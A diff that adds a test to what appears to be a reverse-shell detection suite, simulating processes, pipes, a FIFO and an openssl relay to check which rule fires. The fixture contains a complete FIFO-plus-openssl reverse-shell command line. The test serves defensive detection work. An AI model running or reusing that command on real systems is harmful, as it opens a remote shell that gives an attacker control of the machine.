@@ -121,6 +121,28 @@ describe('class 2: relayed through pipes, FIFOs, ptys and socketpairs', () => {
     expect(f[0]?.processChain.map((p) => p.pid)).toEqual([202, 200, 1]);
   });
 
+  it('a relay tool still connecting ends the path: no report through a pipe it inherited, then the right one', () => {
+    // CI saw this: the shell's relay (openssl) had no socket in the tables yet, and the search went on
+    // through a pipe openssl inherited from its test-runner ancestor to that node process's connection.
+    const h = init(new Host());
+    const runner = h.tcp('127.0.0.1', 39463, 57446);
+    h.proc(90, 1, 'node', ['node', 'vitest-worker.js'], { 0: '/dev/null', 1: 'pipe:[94]', 2: 'pipe:[94]', 21: runner, 251: 'pipe:[94]' });
+    h.proc(400, 90, 'sh', ['sh', '-c', 'mkfifo /tmp/s; /bin/sh -i < /tmp/s 2>&1 | openssl s_client -quiet -connect 127.0.0.1:44949 > /tmp/s'], { 0: '/dev/null', 1: '/dev/null', 2: '/dev/null', 251: 'pipe:[94]' });
+    h.proc(401, 400, 'sh', ['/bin/sh', '-i'], { 0: 'fifo:/tmp/s', 1: 'pipe:[12]', 2: 'pipe:[12]', 251: 'pipe:[94]' });
+    const connecting = { 0: 'pipe:[12]', 1: 'fifo:/tmp/s', 2: '/dev/null', 251: 'pipe:[94]' };
+    h.proc(402, 400, 'openssl', ['openssl', 's_client', '-quiet', '-connect', '127.0.0.1:44949'], { ...connecting, 3: 'socket:[999999]' });
+    // (The `sh -c` line itself is a reverse-shell command line: that rule needs no socket.)
+    expect(detectReverseShells(h.snapshot()).map((x) => [x.ruleId, x.pid])).toEqual([['revshell.cmdline', 400]]);
+
+    const later = init(new Host());
+    later.proc(90, 1, 'node', ['node', 'vitest-worker.js'], { 0: '/dev/null', 1: 'pipe:[94]', 2: 'pipe:[94]', 21: later.tcp('127.0.0.1', 39463, 57446), 251: 'pipe:[94]' });
+    later.proc(401, 400, 'sh', ['/bin/sh', '-i'], { 0: 'fifo:/tmp/s', 1: 'pipe:[12]', 2: 'pipe:[12]', 251: 'pipe:[94]' });
+    later.proc(402, 400, 'openssl', ['openssl', 's_client', '-quiet', '-connect', '127.0.0.1:44949'], { ...connecting, 3: later.tcp('127.0.0.1', 44949, 51000) });
+    const f = detectReverseShells(later.snapshot());
+    expect(f).toHaveLength(1);
+    expect(f[0]).toMatchObject({ ruleId: 'revshell.relayed-stdio', pid: 401, holderPid: 402, peer: { remotePort: 44949 } });
+  });
+
   it('follows a pty slave to the master holder (socat pty / python pty.spawn)', () => {
     const h = init(new Host());
     const s = h.tcp('198.51.100.1', 443, 42001);
